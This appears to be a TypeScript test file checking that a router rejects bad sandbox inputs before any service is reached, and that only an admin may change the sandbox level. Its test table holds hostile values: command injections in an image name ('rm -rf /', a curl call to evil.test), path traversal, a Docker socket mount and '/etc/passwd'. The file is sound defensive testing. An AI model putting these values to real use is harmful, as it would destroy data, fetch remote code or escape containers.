// Garbage for the sandbox calls gets invalid_input with a sentence naming the
// field, and the service (so the engine) is never called.
import { describe, expect, it, vi } from 'vitest';
import { calls, type CallName } from '../../../shared/contract';
import { createRouter, type Handlers } from '../router';

const handler = vi.fn(() => Promise.reject(new Error('the service must not be reached')));
const handlers = Object.fromEntries(Object.keys(calls).map((name) => [name, handler])) as unknown as Handlers;
const router = createRouter(handlers, () => undefined);
const admin = { role: 'admin' as const };

describe('sandbox inputs', () => {
  it.each([
    ['sandbox.setLevel', { level: 7 }, /level/],
    ['sandbox.setLevel', { level: 0 }, /level/],
    ['sandbox.setLevel', { level: 2.5 }, /level/],
    ['sandbox.setLevel', { level: 2, memoryMb: -1 }, /memoryMb/],
    ['sandbox.setLevel', { level: 2, cpus: 0 }, /cpus/],
    ['sandbox.setLevel', { level: 2, image: 'ollama/ollama; rm -rf /' }, /image/],
    ['sandbox.setLevel', { level: 2, image: '$(curl evil.test)' }, /image/],
    ['sandbox.setLevel', { level: 2, image: 'UPPER/case' }, /image/],
    ['sandbox.setLevel', { level: 2, volume: '../etc' }, /volume/],
    ['sandbox.setLevel', { level: 2, volume: '/var/run/docker.sock' }, /volume/],
    ['sandbox.setLevel', { level: 2, port: 80 }, /port/],
    ['sandbox.setLevel', { level: 2, privileged: true }, /privileged/],
    ['sandbox.logs', { tail: 1e9 }, /tail/],
    ['sandbox.pullImage', { image: 'a b' }, /image/],
    ['sandbox.loadImage', { path: '/etc/passwd' }, /path/],
  ] as [CallName, object, RegExp][])('%s %j is invalid_input', async (call, input, field) => {
    const answer = await router.dispatch(call, input, admin);
    expect(answer.ok).toBe(false);
    if (answer.ok) return;
    expect(answer.error.code).toBe('invalid_input');
    expect(answer.error.message).toMatch(field);
    expect(handler).not.toHaveBeenCalled();
  });

  it('accepts a pinned image and a plain volume name', () => {
    const input = {
      level: 3,
      image: `ollama/ollama:0.20.2@sha256:${'0'.repeat(64)}`,
      volume: 'airlock-models',
      memoryMb: 8192,
      cpus: 1.5,
    };
    expect(calls['sandbox.setLevel'].input.safeParse(input).success).toBe(true);
  });

  it('lets only the admin change the level', async () => {
    const answer = await router.dispatch('sandbox.setLevel', { level: 1 }, { role: 'teen' });
    expect(answer).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(handler).not.toHaveBeenCalled();
  });
});
